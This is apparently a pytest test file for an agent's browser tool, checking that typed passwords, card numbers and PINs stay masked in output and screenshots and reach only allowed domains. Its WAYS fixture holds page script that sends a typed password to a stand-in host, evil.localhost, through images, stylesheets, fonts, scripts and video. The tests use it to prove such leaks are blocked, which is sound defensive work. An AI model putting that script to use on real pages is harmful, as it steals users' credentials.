"""Secrets are typed and never told."""

from __future__ import annotations

import traceback
from contextlib import suppress

import pytest
from playwright.async_api import Keyboard

from tests.tools.conftest import Context
from tests.tools.gui.conftest import SECRETS, Person, Site, Surfer
from tools import Browser
from tools.gui.safety import Limits
from tools.gui.secrets import Secrets
from tools.protocol import Picture, ToolError

HOME = Limits(allowed=("shop.example",))


@pytest.mark.parametrize(
    ("value", "told"),
    [
        ("hunter2!x", "it is HUNTER2!X"),
        ("hunter2!x", "?p=hunter2%21x"),
        ('say "hi" & go', r"say \"hi\" & go"),
        ('say "hi" & go', "say &quot;hi&quot; &amp; go"),
        ("hunter2!x@y*z", "?p=hunter2!x%40y*z"),
        ("hunter2!x@y*z", "?p=hunter2%21x%40y*z"),
        ("hunter2!x@y*z", "/to?next=%2Fin%3Fp%3Dhunter2%2521x%2540y%252az"),
        ("hunter2 öx", "?p=hunter2+%c3%B6x"),
        ("two  words", "two words"),
        ("4929381302846117", "card 4929 3813 0284 6117"),
        ("4929381302846117", "4929-3813-0284-6117"),
        ("471", "pin 471."),
    ],
)
def test_a_value_is_masked_however_it_is_written(value: str, told: str) -> None:
    mask = Secrets({"X": value}, HOME).mask
    masked = mask(told)
    assert "<secret:X>" in masked and mask(masked) == masked
    assert mask([told, {"deep": (told,)}]) == [masked, {"deep": (masked,)}]
    left = masked.replace("<secret:X>", "").casefold()
    assert not any(part in left for part in ("hunter", "say", "words", "4929", "471"))


def test_the_digits_of_a_pin_in_other_numbers_are_left() -> None:
    assert Secrets({"X": "471"}, HOME).mask("e4711 costs 1471") == "e4711 costs 1471"


def test_secrets_do_not_print_themselves_and_names_are_checked() -> None:
    secrets = Secrets({"PASSWORD": "hunter2!x"}, HOME)
    assert "hunter" not in repr(secrets) and "hunter" not in repr(vars(Browser(secrets={"A": "b"})))
    for name, value in (("no spaces", "x"), ("A", " ")):
        with pytest.raises(ValueError, match="secret"):
            Browser(secrets={name: value})


@pytest.mark.parametrize(
    ("limits", "url", "fine"),
    [
        (HOME, "https://login.shop.example/", True),
        (HOME, "https://shop.example.evil.org/", False),
        (Limits(), "https://shop.example/", False),
        (Limits(denied=("evil.org",)), "https://shop.example/", False),
        (Limits(schemes=("http", "https", "file")), "file:///home/form.html", True),
        (Limits(schemes=("http", "https", "data")), "data:text/html,x", False),
    ],
)
def test_a_secret_goes_only_to_domains_that_are_allowed_by_name(
    limits: Limits, url: str, fine: bool
) -> None:
    secrets = Secrets({"X": "hunter2!x"}, limits)
    secrets.check("no placeholder", url)
    if fine:
        secrets.check("<secret:X>", url)
        return
    with pytest.raises(ToolError, match="^refused: ") as failure:
        secrets.check("<secret:X>", url)
    assert "hunter" not in str(failure.value)


def test_the_value_arrives_and_is_not_told(surf: Surfer, site: Site, person: Person) -> None:
    page = """<form id=f><label>Name <input name=n></label>
      <label>Password <input type=password name=p></label><button>Enter</button></form>
      <script>f.onsubmit = e => { e.preventDefault();
        fetch('/enter', {method: 'POST', body: f.n.value + '/' + f.p.value}); };</script>"""
    surf.open(site.put(page))
    said = surf("type", target="Name", text="<secret:CARD>")
    assert ": verified (it holds it)" in said and '= "<secret:CARD>"' in said
    surf("type", target="Password", text="<secret:PASSWORD>")
    assert [request.matter for request in person.asked] == ["credentials", "credentials"]
    surf("click", target="Enter")
    assert site.booked == [f"{SECRETS['CARD']}/{SECRETS['PASSWORD']}"]
    proof = [{"value": "<secret:CARD>", "target": "Name"}]
    assert "done: verified" in surf("done", evidence=proof)
    assert not any(value in "\n".join(surf.heard) for value in SECRETS.values())


def test_a_field_that_cuts_or_groups_a_secret_shows_nothing_of_it(surf: Surfer, site: Site) -> None:
    groups = "this.value = this.value.replace(/(....)(?=.)/g, '$1 ')"
    page = f'<label>Pin <input maxlength=3></label><label>Card <input oninput="{groups}"></label>'
    surf.open(site.put(page))
    said = surf("type", target="Pin", text="<secret:PIN>")
    assert ": contradicted (it holds something else" in said and '"471"' not in said
    assert ": verified" in surf("type", target="Card", text="<secret:CARD>")
    assert SECRETS["CARD"][:4] not in surf.look()
    assert '= "abc"' in surf("type", target="Card", text="abc")


def test_a_field_that_cannot_take_a_secret_says_so_without_it(surf: Surfer, site: Site) -> None:
    surf.open(site.put("<label>Day <input type=date></label> <label>Share <input type=range>"))
    for field in ("Day", "Share"):
        with suppress(ToolError):
            assert ": contradicted (it holds" in surf(
                "type", target=field, text="<secret:PASSWORD>"
            )
        assert ": verified" not in surf.heard[-1]
    assert SECRETS["PASSWORD"] not in "".join(surf.heard)


def test_a_fault_of_the_tool_tells_no_secret_either(
    surf: Surfer, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def fails(_: object, text: str) -> None:
        raise ValueError(f"cannot write {text}")

    surf.open(site.put("<label>Name <input></label>"))
    monkeypatch.setattr(Keyboard, "insert_text", fails)
    with pytest.raises(RuntimeError, match="ValueError: cannot write <secret:PASSWORD>") as fault:
        surf("type", target="Name", text="<secret:PASSWORD>")
    assert SECRETS["PASSWORD"] not in "".join(traceback.format_exception(fault.value))


def test_a_screenshot_is_black_where_a_secret_stands(surf: Surfer, site: Site) -> None:
    field = "position:absolute;left:20px;width:260px;height:40px;border:0;background:white"
    page = f"""<input aria-label=Card style="{field};top:60px">
      <p id=out style="{field};top:160px;margin:0"></p>
      <button style="{field};top:260px" onclick="out.textContent =
        'We keep on record '.repeat(9) +
        document.querySelector('input').value.replace(/(....)/g, '$1 ')">Show</button>"""
    surf.open(site.put(page))
    places = [(40, 70, 200, 90), (40, 170, 200, 190)]
    assert not any(_black(surf, place) for place in places)
    surf("type", target="Card", text="<secret:CARD>")
    surf("click", target="Show")
    assert all(_black(surf, place) for place in places)
    assert not _black(surf, (40, 270, 200, 290))


WAYS = """<label>Password <input id=p></label><button id=b>Save</button><a href="{next}">Next</a>
  <p id=out></p><script>b.onclick = async () => {{
    const add = (tag, more) =>
      document.head.append(Object.assign(document.createElement(tag), more));
    const to = '{other}', said = '?' + encodeURIComponent(p.value);
    new Image().src = to + 'image' + said;
    add('link', {{rel: 'stylesheet', href: to + 'style' + said}});
    add('link', {{rel: 'prefetch', href: to + 'prefetch' + said}});
    add('link', {{rel: 'manifest', href: to + 'manifest' + said}});
    add('script', {{src: to + 'script' + said}});
    add('script', {{type: 'module', src: to + 'module' + said}});
    document.body.style.backgroundImage = `url(${{to}}background${{said}})`;
    document.fonts.add(new FontFace('f', `url(${{to}}font${{said}})`));
    document.fonts.load('9px f');
    add('video', {{src: to + 'video' + said}});
    new Image().src = '/own.png';
    await new Promise(done => setTimeout(done, 300)); out.textContent += ' Saved'; }}</script>"""


@pytest.mark.parametrize("name", ["", "sent_by_script.html"])
def test_a_page_that_has_a_secret_gets_nothing_from_beyond_the_allowed_domains(
    site: Site, context: Context, name: str
) -> None:
    other = site.url(host="evil.localhost")
    after = site.put(f"<p>Welcome<img src='{other}after.png'>")
    page = site.url(name) if name else site.put(WAYS.format(other=other, next=after))
    with Browser(
        ("127.0.0.1",), secrets=SECRETS, approve=lambda _: True, pictures=False
    ) as browser:
        surf = Surfer(browser, context)
        surf.open(page)
        surf("type", target="Name" if name else "Password", text="Ada")
        surf("click", target="Save")
        before = {asked for asked in site.asked if asked.startswith("evil")}
        assert any("/image?Ada" in asked for asked in before)  # others keep their pictures there
        surf("type", target="Name" if name else "Password", text="<secret:CARD>")
        said = surf("click", target="Save")
        assert f"not loaded: {other.rstrip('/')} (the domain evil.localhost is not among" in said
        if not name:
            surf("wait_for", until={"text": "Saved Saved"})
            assert site.asked[-1].endswith("/own.png")
        assert {asked for asked in site.asked if asked.startswith("evil")} == before
        if not name:
            surf("click", target="Next", expect={"text": "Welcome"})
            assert site.asked[-1].endswith("/after.png")
    assert not any(SECRETS["CARD"] in asked for asked in site.asked)


def test_no_address_shows_a_secret(surf: Surfer, site: Site) -> None:
    page = """<label>Password <input></label><button onclick="
      location = '?' + new URLSearchParams({p: document.querySelector('input').value}) +
        '&q=' + encodeURIComponent(document.querySelector('input').value)">Go</button>"""
    surf.open(site.put(page))
    surf("type", target="Password", text="<secret:PASSWORD>")
    said = surf("click", target="Go")
    assert "?p=<secret:PASSWORD>&q=<secret:PASSWORD>" in said


def _black(surf: Surfer, place: tuple[int, int, int, int]) -> bool:
    for part in surf.browser.page.call({}, surf.context):
        if isinstance(part, Picture):
            return part.image.convert("RGB").crop(place).getextrema() == ((0, 0),) * 3
    raise AssertionError("no screenshot")
